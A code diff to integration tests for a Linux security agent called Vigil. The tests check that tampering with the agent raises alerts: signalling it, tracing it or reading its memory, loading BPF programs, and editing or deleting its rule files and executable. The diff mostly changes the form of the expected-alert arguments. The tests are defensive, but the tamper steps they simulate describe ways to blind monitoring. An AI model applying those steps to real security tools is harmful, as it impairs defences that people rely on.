         summary_of_alerts(&lines)
     );
-    check(stop[0], "NOTICE", "T1562.001", "SIGINT sent to the Vigil agent");
+    check(stop[0], "NOTICE", "T1562.001", &["SIGINT sent to the Vigil agent"]);
 }
 
 #[test]
 fn tracing_the_agent_is_detected() {
     let agent = Agent::start(&[]);
-    let pid = agent_pid(&agent);
+    let pid = agent.pid();
     // PTRACE_SEIZE does not stop the agent, and the tracer's exit detaches it; then a
     // process_vm_readv at a bad address, which fails
     let (tracer, _) = python_ok(
@@ -1117,7 +924,7 @@ fn tracing_the_agent_is_detected() {
     let a = wait_alert(&agent, "Vigil agent traced or its memory accessed", |a| {
         a["proc"]["pid"] == tracer && a["evt"]["type"] == "ptrace"
     });
-    check(&a, "CRITICAL", "T1562.001", "request=PTRACE_SEIZE");
+    check(&a, "CRITICAL", "T1562.001", &["request=PTRACE_SEIZE"]);
     let a = wait_alert(&agent, "Vigil agent traced or its memory accessed", |a| {
         a["proc"]["pid"] == tracer && a["evt"]["type"] == "process_vm_readv"
     });
@@ -1125,7 +932,7 @@ fn tracing_the_agent_is_detected() {
         &a,
         "CRITICAL",
         "T1562.001",
-        &format!("process_vm_readv on the Vigil agent (pid {pid})"),
+        &[&format!("process_vm_readv on the Vigil agent (pid {pid})")],
     );
     // the agent still works
     let port = listener(1, b"exit\n", Duration::from_millis(300));
@@ -1148,7 +955,7 @@ fn bpf_calls_by_other_processes_are_detected() {
     let a = wait_alert(&agent, "BPF program loaded by another process", |a| {
         a["proc"]["pid"] == pid
     });
-    check(&a, "ERROR", "T1562.001", "bpf(BPF_PROG_LOAD) by python3");
+    check(&a, "ERROR", "T1562.001", &["bpf(BPF_PROG_LOAD) by python3"]);
     assert!(
         a["syscall"]["args"]["res"].as_str().is_some_and(|r| r.starts_with('-')),
         "the failed load carries its result"
@@ -1156,7 +963,7 @@ fn bpf_calls_by_other_processes_are_detected() {
     let a = wait_alert(&agent, "BPF map created or object opened by another process", |a| {
         a["proc"]["pid"] == pid
     });
-    check(&a, "WARNING", "T1562.001", "bpf(BPF_MAP_CREATE) by python3");
+    check(&a, "WARNING", "T1562.001", &["bpf(BPF_MAP_CREATE) by python3"]);
 
     // near miss: `vigil doctor` (the agent's own executable) loads probe programs
     let doctor = Command::new(vigil_bin())
@@ -1203,18 +1010,18 @@ fn rule_files_changed_under_the_agent_are_detected() {
         &a,
         "ERROR",
         "T1562.001",
-        &format!("Vigil rule file {} changed", file.display()),
+        &[&format!("Vigil rule file {} changed", file.display())],
     );
     // replaced by a rename (sed -i, editors)
     sh_ok(&format!("sed -i 's/items: \\[a\\]/items: [b]/' {}", file.display()));
     let a = wait_alert(&agent, "Vigil rule file modified", |a| {
         a["proc"]["name"] == "sed" && a["evt"]["type"] != "openat"
     });
-    check(&a, "ERROR", "T1562.001", &format!("target={}", file.display()));
+    check(&a, "ERROR", "T1562.001", &[&format!("target={}", file.display())]);
     // removed
     sh_ok(&format!("rm {}", file.display()));
     let a = wait_alert(&agent, "Vigil rule file modified", |a| a["proc"]["name"] == "rm");
-    check(&a, "ERROR", "T1562.001", "unlink");
+    check(&a, "ERROR", "T1562.001", &["unlink"]);
 
     let lines = agent.lines();
     assert_no_alert(&lines, "Vigil rule file modified", |a| a["proc"]["name"] == "cat");
@@ -1292,7 +1099,7 @@ fn agent_executable_moved_is_detected() {
         &a,
         "CRITICAL",
         "T1562.001",
-        &format!("Vigil agent executable {} changed", exe.display()),
+        &[&format!("Vigil agent executable {} changed", exe.display())],
     );
     assert!(
         output(&a).contains(&format!("target={}", moved.display())),
@@ -1304,5 +1111,5 @@ fn agent_executable_moved_is_detected() {
         "Vigil agent executable modified",
         |a| a["evt"]["res"].as_i64().is_some_and(|r| r < 0),
     );
-    check(&a, "CRITICAL", "T1562.001", "res=ETXTBSY");
+    check(&a, "CRITICAL", "T1562.001", &["res=ETXTBSY"]);
 }
